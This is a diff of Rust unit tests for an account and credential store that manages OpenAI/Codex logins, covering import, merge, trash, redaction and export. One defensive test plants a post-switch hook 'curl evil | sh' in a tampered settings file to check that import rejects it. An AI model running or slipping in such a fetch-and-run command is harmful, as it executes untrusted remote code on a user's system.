+        let (view, _) = store.persisted_view(&token_store::MemoryBackend::default());
+        assert_eq!(
+            view.accounts[&pro_id].switch_history.len(),
+            MAX_SWITCH_HISTORY
+        );
+
+        let mut legacy = serde_json::to_value(&store.accounts[&pro_id]).unwrap();
+        let obj = legacy.as_object_mut().unwrap();
+        obj.remove("switch_count");
+        obj.remove("switch_history");
+        let legacy: Account = serde_json::from_value(legacy).unwrap();
+        assert_eq!(legacy.switch_count, 0);
+        assert!(legacy.switch_history.is_empty());
+    }
+
+    #[test]
+    fn cloned_backup_is_frozen_and_never_shadows_the_current_account() {
+        let (mut store, pro_id, _) = make_oauth_store();
+        store.current = Some(pro_id.clone());
+        {
+            let pro = store.accounts.get_mut(&pro_id).unwrap();
+            pro.notes = Some("主号".to_string());
+            pro.record_switch(Utc::now());
+            pro.is_session_anchor = true;
+        }
+        let clone = store
+            .clone_account(&pro_id, " pro 备份 ".to_string())
+            .unwrap();
+        let pro = &store.accounts[&pro_id];
+        assert_ne!(clone.id, pro_id);
+        assert_eq!(clone.name, "pro 备份");
+        assert_eq!(clone.auth_json, pro.auth_json);
+        assert_eq!(clone.refresh_token, pro.refresh_token);
+        let notes = clone.notes.as_deref().unwrap();
+        assert!(
+            notes.starts_with("主号\n复制自 pro@example.com"),
+            "{}",
+            notes
+        );
+        assert_eq!(clone.last_used, None);
+        assert_eq!(clone.switch_count, 0);
+        assert!(clone.cached_quota.is_none());
+        assert!(!clone.is_session_anchor);
+        assert!(!clone.keepalive.inactive_refresh_enabled);
+        assert_eq!(store.current.as_deref(), Some(pro_id.as_str()));
+
+        // 副本是最新建的、排在列表前面，但同一身份优先认当前账号
+        let disk = oauth_auth("pro@example.com", "acct-pro", "rt-disk");
+        assert_eq!(
+            store.find_account_for_disk_auth(&disk),
+            Some(pro_id.clone())
+        );
+        assert_eq!(store.find_same_identity(&disk), Some(pro_id.clone()));
+        store.current = Some(clone.id.clone());
+        assert_eq!(
+            store.find_account_for_disk_auth(&disk),
+            Some(clone.id.clone())
+        );
+
+        assert!(store.clone_account("missing", "x".to_string()).is_err());
+        assert!(store.clone_account(&pro_id, "  ".to_string()).is_err());
+    }
+
+    #[test]
+    fn colliding_names_get_a_numeric_suffix() {
+        let mut store = AccountStore::default();
+        let add = |store: &mut AccountStore, name: &str| {
+            store
+                .add_account(name.to_string(), serde_json::json!({}), None)
+                .name
+        };
+        assert_eq!(add(&mut store, "work"), "work");
+        assert_eq!(add(&mut store, "Work "), "Work (2)");
+        assert_eq!(add(&mut store, "work"), "work (3)");
+        // 本来就带序号的按基名往后排，不叠成 `work (2) (2)`
+        assert_eq!(add(&mut store, "work (2)"), "work (4)");
+        assert_eq!(add(&mut store, "team (7)"), "team (7)");
+        assert_eq!(add(&mut store, "team (7)"), "team (2)");
+        // 括号里不是纯数字的不算序号
+        assert_eq!(add(&mut store, "a (x)"), "a (x)");
+        assert_eq!(add(&mut store, "a (x)"), "a (x) (2)");
+        assert_eq!(add(&mut store, "()"), "()");
+        assert_eq!(add(&mut store, "()"), "() (2)");
+
+        // 改名：和自己重名不算，撞上别人加序号，id 不变
+        let id = store
+            .accounts
+            .values()
+            .find(|a| a.name == "work")
+            .unwrap()
+            .id
+            .clone();
+        store
+            .update_account(&id, Some("WORK".to_string()), None)
+            .unwrap();
+        assert_eq!(store.accounts[&id].name, "WORK");
+        store
+            .update_account(&id, Some("team (7)".to_string()), None)
+            .unwrap();
+        assert_eq!(store.accounts[&id].name, "team (3)");
+        assert_eq!(store.accounts.len(), 10);
+    }
+
+    #[test]
+    fn import_renames_duplicates_keeping_the_oldest_name() {
+        let mut store = AccountStore::default();
+        let empty = || serde_json::json!({});
+        let old = store.add_account("main".to_string(), empty(), None).id;
+        let new = store.add_account("other".to_string(), empty(), None).id;
+        let newest = store.add_account("main (2)".to_string(), empty(), None).id;
+        // 模拟手改过的配置文件：三个号都叫 main
+        for (i, id) in [&old, &new, &newest].into_iter().enumerate() {
+            let account = store.accounts.get_mut(id).unwrap();
+            account.name = "main".to_string();
+            account.created_at = Utc::now() + chrono::Duration::seconds(i as i64);
+        }
+        let imported = AccountStore::import(&store.export().unwrap()).unwrap();
+        assert_eq!(imported.accounts[&old].name, "main");
+        assert_eq!(imported.accounts[&new].name, "main (2)");
+        assert_eq!(imported.accounts[&newest].name, "main (3)");
+
+        let mut clean = imported;
+        assert_eq!(clean.dedupe_account_names(), 0);
+    }
+
+    #[test]
+    fn pinned_then_manual_order_then_newest_first() {
+        let mut store = AccountStore::default();
+        let base = Utc::now() - chrono::Duration::days(1);
+        let ids: Vec<String> = (0..5)
+            .map(|i| {
+                let id = add_relay(&mut store, &format!("r{}", i));
+                store.accounts.get_mut(&id).unwrap().created_at =
+                    base + chrono::Duration::minutes(i);
+                id
+            })
+            .collect();
+        let order = |store: &AccountStore| -> Vec<String> {
+            store.list_accounts().iter().map(|a| a.id.clone()).collect()
+        };
+        assert_eq!(order(&store), ids.iter().rev().cloned().collect::<Vec<_>>());
+
+        store
+            .reorder_accounts(&[ids[0].clone(), ids[2].clone()])
+            .unwrap();
+        store.pin_account(&ids[1], true).unwrap();
+        assert_eq!(
+            order(&store),
+            vec![
+                ids[1].clone(),
+                ids[0].clone(),
+                ids[2].clone(),
+                ids[4].clone(),
+                ids[3].clone()
+            ]
+        );
+
+        // 有问题的排序整体拒绝，原顺序不动
+        assert!(store
+            .reorder_accounts(&[ids[3].clone(), "missing".into()])
+            .is_err());
+        assert!(store
+            .reorder_accounts(&[ids[3].clone(), ids[3].clone()])
+            .is_err());
+        assert_eq!(store.accounts[&ids[3]].sort_index, None);
+        assert!(store.pin_account("missing", true).is_err());
+
+        let imported = AccountStore::import(&store.export().unwrap()).unwrap();
+        assert_eq!(order(&imported), order(&store));
+        assert!(imported.accounts[&ids[1]].pinned);
+        assert_eq!(imported.accounts[&ids[2]].sort_index, Some(1));
+
+        // 重排时没列出的清掉位置，取消置顶后回到手动顺序里
+        store.reorder_accounts(&[ids[4].clone()]).unwrap();
+        store.pin_account(&ids[1], false).unwrap();
+        assert_eq!(order(&store)[0], ids[4]);
+        assert_eq!(store.accounts[&ids[0]].sort_index, None);
+    }
+
+    #[test]
+    fn deleted_accounts_go_to_trash_and_can_be_restored() {
+        let (mut store, pro_id, free_id) = make_oauth_store();
+        store.current = Some(pro_id.clone());
+        store.stamp_changes();
+        store.delete_account(&pro_id).unwrap();
+
+        assert!(!store.accounts.contains_key(&pro_id));
+        assert!(store.list_accounts().iter().all(|a| a.id != pro_id));
+        assert_eq!(store.current.as_deref(), Some(free_id.as_str()));
+        assert_eq!(store.deleted_accounts.len(), 1);
+        assert_eq!(store.list_trash()[0].account.id, pro_id);
+        let err = store.switch_to(&pro_id, false).unwrap_err();
+        assert!(err.contains("回收站"), "{}", err);
+        assert!(store.delete_account(&pro_id).is_err());
+
+        store.restore_from_trash(&pro_id).unwrap();
+        assert!(store.trash.is_empty());
+        assert!(store.deleted_accounts.is_empty());
+        assert_eq!(
+            store.accounts[&pro_id].refresh_token.as_deref(),
+            Some("rt-pro")
+        );
+        assert!(store.restore_from_trash(&pro_id).is_err());
+
+        // 落盘往返后回收站还在
+        store.delete_account(&free_id).unwrap();
+        let json = serde_json::to_string(&store).unwrap();
+        let reloaded: AccountStore = serde_json::from_str(&json).unwrap();
+        assert!(reloaded.trash.contains_key(&free_id));
+    }
+
+    #[test]
+    fn importing_the_same_identity_updates_instead_of_adding() {
+        let (mut store, pro_id, _) = make_oauth_store();
+        let again = store.import_auth(
+            "pro 2".to_string(),
+            oauth_auth("pro@example.com", "acct-pro", "rt-pro-2"),
+            Some("备注".to_string()),
+            false,
+        );
+        assert!(again.updated);
+        assert_eq!(again.account.id, pro_id);
+        assert_eq!(store.accounts.len(), 2);
+        assert_eq!(store.accounts[&pro_id].name, "pro@example.com");
+        assert_eq!(store.accounts[&pro_id].notes, None);
+        assert_eq!(
+            store.accounts[&pro_id].refresh_token.as_deref(),
+            Some("rt-pro-2")
+        );
+
+        // 同一邮箱的另一个工作区是另一个身份
+        let other = store.import_auth(
+            "pro@example.com".to_string(),
+            oauth_auth("pro@example.com", "acct-other", "rt-other"),
+            None,
+            false,
+        );
+        assert!(!other.updated);
+        assert_eq!(store.accounts.len(), 3);
+
+        // force：确实要第二份
+        let copy = store.import_auth(
+            "pro copy".to_string(),
+            oauth_auth("pro@example.com", "acct-pro", "rt-pro-3"),
+            None,
+            true,
+        );
+        assert!(!copy.updated);
+        assert_ne!(copy.account.id, pro_id);
+        assert_eq!(store.accounts.len(), 4);
+        let json = serde_json::to_value(&copy).unwrap();
+        assert_eq!(json["updated"], false);
+        assert_eq!(json["id"], copy.account.id.as_str());
+    }
+
+    #[test]
+    fn importing_over_a_protected_account_leaves_its_tokens_alone() {
+        let (mut store, pro_id, _) = make_oauth_store();
+        store.set_account_protected(&pro_id, true).unwrap();
+        let before = store.accounts[&pro_id].auth_json.clone();
+
+        let imported = store.import_auth(
+            "pro 2".to_string(),
+            oauth_auth("pro@example.com", "acct-pro", "rt-pro-2"),
+            None,
+            false,
+        );
+        assert!(!imported.updated);
+        assert_eq!(imported.account.id, pro_id);
+        assert!(imported.skipped.as_deref().unwrap().contains("受保护"));
+        assert_eq!(store.accounts.len(), 2);
+        assert_eq!(store.accounts[&pro_id].auth_json, before);
+        assert_eq!(
+            store.accounts[&pro_id].refresh_token.as_deref(),
+            Some("rt-pro")
+        );
+    }
+
+    #[test]
+    fn api_key_auth_is_imported_deduped_by_key_and_written_back_verbatim() {
+        let (mut store, pro_id, _) = make_oauth_store();
+        let key_auth = serde_json::json!({ "OPENAI_API_KEY": "sk-team" });
+        let imported = store.import_auth("team".to_string(), key_auth.clone(), None, false);
+        let id = imported.account.id.clone();
+        assert_eq!(imported.account.kind, AccountKind::OpenaiKey);
+        assert!(imported.account.is_api_key());
+        assert!(!store.accounts[&pro_id].is_api_key());
+        assert_eq!(store.accounts[&id].to_codex_auth_value(), key_auth);
+
+        let again = store.import_auth("team 2".to_string(), key_auth.clone(), None, false);
+        assert!(again.updated);
+        assert_eq!(again.account.id, id);
+        let other = serde_json::json!({ "OPENAI_API_KEY": "sk-other" });
+        assert!(
+            !store
+                .import_auth("other".to_string(), other, None, false)
+                .updated
+        );
+
+        // 没有 token 可回流，不算同步也不报错
+        assert_eq!(
+            store.try_sync_account_from_auth_json(&id, key_auth),
+            Ok(false)
+        );
+    }
+
+    #[test]
+    fn duplicates_are_grouped_and_merged_into_the_kept_account() {
+        let (mut store, pro_id, free_id) = make_oauth_store();
+        let mut old_auth = oauth_auth("pro@example.com", "acct-pro", "rt-old");
+        old_auth["last_refresh"] = serde_json::json!("2026-01-01T00:00:00Z");
+        let mut new_auth = oauth_auth("pro@example.com", "acct-pro", "rt-new");
+        new_auth["last_refresh"] = serde_json::json!("2026-02-01T00:00:00Z");
+        store.accounts.get_mut(&pro_id).unwrap().auth_json = old_auth;
+        let dup = store
+            .import_auth(
+                "pro 备用".to_string(),
+                new_auth,
+                Some("续费 3/1".to_string()),
+                true,
+            )
+            .account
+            .id;
+        store.accounts.get_mut(&pro_id).unwrap().notes = Some("主号".to_string());
+        store.accounts.get_mut(&dup).unwrap().tags = vec!["工作".to_string()];
+        store
+            .set_account_metadata(&pro_id, "team", "infra")
+            .unwrap();
+        store.set_account_metadata(&dup, "team", "web").unwrap();
+        store.set_account_metadata(&dup, "owner", "alice").unwrap();
+        store.current = Some(dup.clone());
+
+        let groups = store.find_duplicate_accounts();
+        assert_eq!(groups.len(), 1);
+        let mut group = groups[0].clone();
+        group.sort();
+        let mut expected = vec![pro_id.clone(), dup.clone()];
+        expected.sort();
+        assert_eq!(group, expected);
+
+        let merged = store.merge_accounts(&pro_id, &dup).unwrap();
+        assert_eq!(merged.id, pro_id);
+        assert_eq!(merged.refresh_token.as_deref(), Some("rt-new"));
+        assert_eq!(
+            AccountStore::extract_refresh_token(&merged.auth_json).as_deref(),
+            Some("rt-new")
+        );
+        assert_eq!(merged.notes.as_deref(), Some("主号\n续费 3/1"));
+        assert_eq!(merged.tags, vec!["工作".to_string()]);
+        // 键冲突时保留的号说了算
+        assert_eq!(merged.metadata["team"], "infra");
+        assert_eq!(merged.metadata["owner"], "alice");
+        assert_eq!(store.current.as_deref(), Some(pro_id.as_str()));
+        assert!(!store.accounts.contains_key(&dup));
+        assert!(store.trash.contains_key(&dup));
+        assert!(store.find_duplicate_accounts().is_empty());
+
+        // 身份不一致：拒绝，错误里带两个 id
+        let err = store.merge_accounts(&pro_id, &free_id).unwrap_err();
+        assert!(err.contains(&pro_id) && err.contains(&free_id), "{}", err);
+        assert!(store.accounts.contains_key(&free_id));
+    }
+
+    #[test]
+    fn merging_into_a_protected_account_keeps_its_tokens() {
+        let (mut store, pro_id, _) = make_oauth_store();
+        let mut new_auth = oauth_auth("pro@example.com", "acct-pro", "rt-new");
+        new_auth["last_refresh"] = serde_json::json!("2099-01-01T00:00:00Z");
+        let dup = store
+            .import_auth(
+                "pro 备用".to_string(),
+                new_auth,
+                Some("备用".to_string()),
+                true,
+            )
+            .account
+            .id;
+        store.set_account_protected(&pro_id, true).unwrap();
+        let before = store.accounts[&pro_id].auth_json.clone();
+
+        let merged = store.merge_accounts(&pro_id, &dup).unwrap();
+        assert_eq!(merged.auth_json, before);
+        assert_eq!(merged.refresh_token.as_deref(), Some("rt-pro"));
+        assert_eq!(merged.notes.as_deref(), Some("备用"));
+        assert!(!store.accounts.contains_key(&dup));
+    }
+
+    #[test]
+    fn legacy_account_without_account_id_is_matched_by_email() {
+        let mut store = AccountStore::default();
+        let legacy = store
+            .add_account(
+                "legacy".to_string(),
+                serde_json::json!({
+                    "tokens": {
+                        "refresh_token": "rt-old",
+                        "id_token": make_id_token("legacy@example.com", "acct-legacy"),
+                        "access_token": "at.test.token",
+                    }
+                }),
+                None,
+            )
+            .id;
+        let incoming = auth_with_identity("Legacy@Example.com", "acct-legacy", "rt-new");
+        assert_eq!(store.find_same_identity(&incoming), Some(legacy.clone()));
+
+        let imported = store.import_auth("legacy@example.com".to_string(), incoming, None, false);
+        assert!(imported.updated);
+        assert_eq!(store.accounts.len(), 1);
+        assert_eq!(
+            AccountStore::extract_account_id(&store.accounts[&legacy].auth_json).as_deref(),
+            Some("acct-legacy")
+        );
+        assert_eq!(
+            store.accounts[&legacy].refresh_token.as_deref(),
+            Some("rt-new")
+        );
+
+        // 已有 account_id 的账号不按邮箱兜底
+        let other = auth_with_identity("legacy@example.com", "acct-elsewhere", "rt-x");
+        assert_eq!(store.find_same_identity(&other), None);
+    }
+
+    #[test]
+    fn archived_accounts_stay_listed_but_cannot_be_switched_to() {
+        let (mut store, pro_id, _) = make_oauth_store();
+        store.archive_account(&pro_id, true).unwrap();
+        assert!(store
+            .list_accounts()
+            .iter()
+            .any(|a| a.id == pro_id && a.archived));
+        let err = store.switch_to(&pro_id, false).unwrap_err();
+        assert!(err.contains("归档"), "{}", err);
+        assert!(store.archive_account("missing", true).is_err());
+
+        let json = serde_json::to_value(&store.accounts[&pro_id]).unwrap();
+        assert_eq!(json["archived"], true);
+        store.archive_account(&pro_id, false).unwrap();
+        let json = serde_json::to_value(&store.accounts[&pro_id]).unwrap();
+        assert!(json.get("archived").is_none());
+    }
+
+    #[test]
+    fn trash_is_purged_after_retention() {
+        let mut store = AccountStore::default();
+        let old = add_relay(&mut store, "old");
+        let recent = add_relay(&mut store, "recent");
+        store.delete_account(&old).unwrap();
+        store.delete_account(&recent).unwrap();
+        let now = Utc::now();
+        store.trash.get_mut(&old).unwrap().deleted_at = now - chrono::Duration::days(31);
+        store.trash.get_mut(&recent).unwrap().deleted_at = now - chrono::Duration::days(2);
+
+        store.settings.trash_retention_days = 0;
+        assert!(store.purge_expired_trash(now).is_empty());
+        store.settings.trash_retention_days = 30;
+        assert_eq!(store.purge_expired_trash(now), vec![old.clone()]);
+        assert!(store.restore_from_trash(&old).is_err());
+
+        // 手动清：0 天即清空
+        assert_eq!(
+            store.purge_trash(chrono::Duration::days(0), now),
+            vec![recent]
+        );
+        assert!(store.trash.is_empty());
+    }
+
+    #[test]
+    fn subset_export_carries_only_the_chosen_accounts() {
+        let (mut store, pro_id, free_id) = make_oauth_store();
+        store.current = Some(pro_id.clone());
+        store.settings.refresh_interval_minutes = 45;
+
+        let err = store
+            .export_subset(&[pro_id.clone(), "nope".to_string()], false)
+            .unwrap_err();
+        assert!(err.contains("nope"), "{}", err);
+        assert!(store.export_subset(&[], false).is_err());
+
+        let exported = store
+            .export_subset(std::slice::from_ref(&pro_id), false)
+            .unwrap();
+        assert!(!AccountStore::export_has_settings(&exported));
+        let imported = AccountStore::import(&exported).unwrap();
+        assert_eq!(imported.accounts.keys().collect::<Vec<_>>(), vec![&pro_id]);
+        assert_eq!(imported.current, None);
+        assert!(!exported.contains(&free_id));
+
+        let with_settings = store.export_subset(&[pro_id], true).unwrap();
+        assert!(AccountStore::export_has_settings(&with_settings));
+        let imported = AccountStore::import(&with_settings).unwrap();
+        assert_eq!(imported.settings.refresh_interval_minutes, 45);
+    }
+
+    #[test]
+    fn pasted_refresh_token_of_a_stored_account_is_found_before_adding() {
+        let (mut store, pro_id, free_id) = make_oauth_store();
+        add_relay(&mut store, "relay");
+        assert_eq!(
+            store.find_by_refresh_token("rt-pro").as_deref(),
+            Some(pro_id.as_str())
+        );
+        // 账号字段没存 rt 的老数据，从 auth_json 里认
+        store.accounts.get_mut(&free_id).unwrap().refresh_token = None;
+        assert_eq!(
+            store.find_by_refresh_token("rt-free").as_deref(),
+            Some(free_id.as_str())
+        );
+        assert_eq!(store.find_by_refresh_token("rt-unknown"), None);
+        assert_eq!(store.find_by_refresh_token("sk-fake-key"), None);
+
+        // rt 不认识、换回来的身份是已存账号：就地换 token，不另建
+        let id_token = make_id_token("pro@example.com", "acct-pro");
+        let id = store.find_login_owner(&id_token, Some("acct-pro")).unwrap();
+        assert_eq!(id, pro_id);
+        let other = make_id_token("new@example.com", "acct-new");
+        assert_eq!(store.find_login_owner(&other, Some("acct-new")), None);
+        // 挂着刷新禁令的走重新登录，不在这里认领
+        let free_token = make_id_token("free@example.com", "acct-free");
+        assert!(store.ban_refresh(&free_id, "invalid_grant"));
+        assert_eq!(store.find_login_owner(&free_token, Some("acct-free")), None);
+        let before = store.accounts.len();
+        AccountStore::apply_refreshed_tokens(
+            store.accounts.get_mut(&id).unwrap(),
+            "at-new".to_string(),
+            Some("rt-pro-2".to_string()),
+            None,
+            Some(3600),
+        );
+        assert_eq!(store.accounts.len(), before);
+        assert_eq!(
+            store.find_by_refresh_token("rt-pro-2").as_deref(),
+            Some(pro_id.as_str())
+        );
+    }
+
+    #[test]
+    fn settings_round_trip_without_accounts_and_reject_bad_ranges() {
+        let (mut store, _, _) = make_oauth_store();
+        store.settings.primary_ide = "Cursor".to_string();
+        store.settings.refresh_interval_minutes = 45;
+        store.settings.codex_home = Some("/elsewhere/.codex".to_string());
+        let exported = store.settings.export().unwrap();
+        assert!(!exported.contains("rt-pro"));
+
+        let local = AppSettings {
+            codex_home: Some("/here/.codex".to_string()),
+            ..AppSettings::default()
+        };
+        let imported = AppSettings::import(&exported, &local).unwrap();
+        assert_eq!(imported.primary_ide, "Cursor");
+        assert_eq!(imported.refresh_interval_minutes, 45);
+        assert_eq!(imported.codex_home.as_deref(), Some("/here/.codex"));
+
+        let mut doc: Value = serde_json::from_str(&exported).unwrap();
+        doc["refresh_interval_minutes"] = serde_json::json!(0);
+        let err = AppSettings::import(&doc.to_string(), &local).unwrap_err();
+        assert!(err.contains("refresh_interval_minutes"), "{}", err);
+        doc["refresh_interval_minutes"] = serde_json::json!(30);
+        doc["quota_refresh_batch"] = serde_json::json!(0);
+        let err = AppSettings::import(&doc.to_string(), &local).unwrap_err();
+        assert!(err.contains("quota_refresh_batch"), "{}", err);
+
+        let err = AppSettings::import(&store.export().unwrap(), &local).unwrap_err();
+        assert!(err.contains("账号导出"), "{}", err);
+    }
+
+    #[test]
+    fn settings_export_drops_secret_and_hooks_and_import_keeps_local_ones() {
+        let hook = |command: &str| -> crate::switch_hooks::SwitchHook {
+            serde_json::from_value(serde_json::json!({ "name": "h", "command": command })).unwrap()
+        };
+        let mut settings = AppSettings {
+            remote_shared_secret: "shared-secret-value".to_string(),
+            post_switch_hooks: vec![hook("echo exported")],
+            ..AppSettings::default()
+        };
+        let exported = settings.export().unwrap();
+        assert!(!exported.contains("shared-secret-value"), "{}", exported);
+        assert!(!exported.contains("echo exported"), "{}", exported);
+
+        // 手改的文件里塞了密钥和钩子，也不采用
+        let mut doc: Value = serde_json::from_str(&exported).unwrap();
+        doc["remote_shared_secret"] = serde_json::json!("attacker-secret");
+        doc["post_switch_hooks"] = serde_json::to_value(vec![hook("curl evil | sh")]).unwrap();
+        settings.remote_shared_secret = "local-secret".to_string();
+        settings.post_switch_hooks = vec![hook("echo local")];
+        let imported = AppSettings::import(&doc.to_string(), &settings).unwrap();
+        assert_eq!(imported.remote_shared_secret, "local-secret");
+        assert_eq!(imported.post_switch_hooks, settings.post_switch_hooks);
+    }
+
+    #[test]
+    fn redacted_export_keeps_layout_but_no_tokens_and_cannot_be_imported() {
+        let (mut store, pro_id, _) = make_oauth_store();
+        let relay_id = add_relay(&mut store, "relay");
+        store.current = Some(pro_id.clone());
+        store.settings.remote_shared_secret = "shared-secret-value".to_string();
+        {
+            let pro = store.accounts.get_mut(&pro_id).unwrap();
+            pro.notes = Some("主力号".to_string());
+            pro.auth_json["last_refresh"] = serde_json::json!("2026-01-01T00:00:00Z");
+            pro.relay_usage_cookie = Some("session=cookie-value".to_string());
+            pro.cached_quota = Some(
+                serde_json::from_value(serde_json::json!({
+                    "five_hour_left": 80.0,
+                    "five_hour_reset": "1h",
+                    "five_hour_reset_at": null,
+                    "weekly_left": 50.0,
+                    "weekly_reset": "3d",
+                    "weekly_reset_at": null,
+                    "plan_type": "pro",
+                    "updated_at": "2026-01-01T00:00:00Z",
+                }))
+                .unwrap(),
+            );
+        }
+
+        let exported = store.export_redacted().unwrap();
+        for secret in [
+            "eyJ",
+            "rt-pro",
+            "rt-free",
+            "sk-fake-key",
+            "cookie-value",
+            "shared-secret-value",
+        ] {
+            assert!(!exported.contains(secret), "{} 漏出来了", secret);
+        }
+        assert_eq!(crate::redact::redact_jwt_like(&exported), exported);
+
+        let doc: Value = serde_json::from_str(&exported).unwrap();
+        assert_eq!(doc[REDACTED_EXPORT_MARKER], true);
+        assert_eq!(doc["current"], pro_id.as_str());
+        let pro = &doc["accounts"][&pro_id];
+        assert!(pro["refresh_token"].is_null());
+        for key in ["access_token", "id_token", "refresh_token"] {
+            assert_eq!(pro["auth_json"]["tokens"][key], REDACTED);
+        }
+        assert_eq!(pro["auth_json"]["tokens"]["account_id"], "acct-pro");
+        assert_eq!(pro["auth_json"]["last_refresh"], "2026-01-01T00:00:00Z");
+        assert_eq!(pro["name"], "pro@example.com");
+        assert_eq!(pro["notes"], "主力号");
+        assert_eq!(pro["cached_quota"]["weekly_left"], 50.0);
+        assert_eq!(doc["accounts"][&relay_id]["name"], "relay");
+        // 存储方式不是凭据，照旧
+        assert_eq!(doc["settings"]["token_storage"], "file");
+
+        let err = AccountStore::import(&exported).unwrap_err();
+        assert!(err.contains("脱敏导出"), "{}", err);
+        // 原库没被动过
+        assert_eq!(
+            store.accounts[&pro_id].refresh_token.as_deref(),
+            Some("rt-pro")
+        );
+    }
+
+    #[test]
+    fn export_dedups_shared_id_tokens_and_imports_identically() {
+        let mut store = AccountStore::default();
+        // 同一 workspace 的 20 个账号共用一个约 4 KB 的 id_token
+        let padding = "p".repeat(4096);
+        let payload = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(format!(
+            r#"{{"email":"team@example.com","exp":1900000000,"pad":"{}","https://api.openai.com/auth":{{"chatgpt_account_id":"ws-1"}}}}"#,
+            padding
+        ));
+        let id_token = format!("eyJhbGciOiJub25lIn0.{payload}.sig");
+        for i in 0..20 {
+            store.add_account(
+                format!("dup{i}"),
+                serde_json::json!({
+                    "tokens": {
+                        "account_id": "ws-1",
+                        "id_token": id_token,
+                        "access_token": format!("at-{i}"),
+                        "refresh_token": format!("rt-{i}"),
+                    },
+                    "last_refresh": "2026-01-01T00:00:00Z",
+                }),
+                None,
+            );
+        }
+
+        let plain = serde_json::to_string_pretty(&store).unwrap();
+        let exported = store.export().unwrap();
+        assert!(
+            exported.len() * 4 < plain.len(),
+            "去重后 {} 字节，原来 {} 字节",
+            exported.len(),
+            plain.len()
+        );
+        assert_eq!(exported.matches(&id_token).count(), 1);
+
+        let imported = AccountStore::import(&exported).unwrap();
+        assert_eq!(imported.accounts.len(), store.accounts.len());
+        for (id, original) in &store.accounts {
+            let auth = &imported.accounts[id].auth_json;
+            assert_eq!(auth, &original.auth_json);
+            let before = &original.auth_json;
+            assert_eq!(
+                AccountStore::extract_email(auth),
+                AccountStore::extract_email(before)
+            );
+            assert_eq!(
+                AccountStore::extract_account_id(auth),
+                AccountStore::extract_account_id(before)
+            );
+            assert_eq!(
+                AccountStore::extract_access_token(auth),
+                AccountStore::extract_access_token(before)
+            );
+            assert_eq!(
+                AccountStore::extract_refresh_token(auth),
+                AccountStore::extract_refresh_token(before)
+            );
+            assert_eq!(
+                AccountStore::extract_last_refresh(auth),
+                AccountStore::extract_last_refresh(before)
+            );
+            assert_eq!(
+                AccountStore::extract_openai_user_id(auth),
+                AccountStore::extract_openai_user_id(before)
+            );
+        }
+        assert_eq!(
+            AccountStore::extract_email(&imported.accounts.values().next().unwrap().auth_json)
+                .as_deref(),
+            Some("team@example.com")
+        );
+
+        // 没有重复 token 时导出格式不变
+        let mut single = AccountStore::default();
+        single.add_account(
+            "solo".into(),
+            auth_with_identity("a@b.c", "ws-2", "rt"),
+            None,
+        );
+        assert_eq!(
+            single.export().unwrap(),
+            serde_json::to_string_pretty(&single).unwrap()
+        );
+    }
 }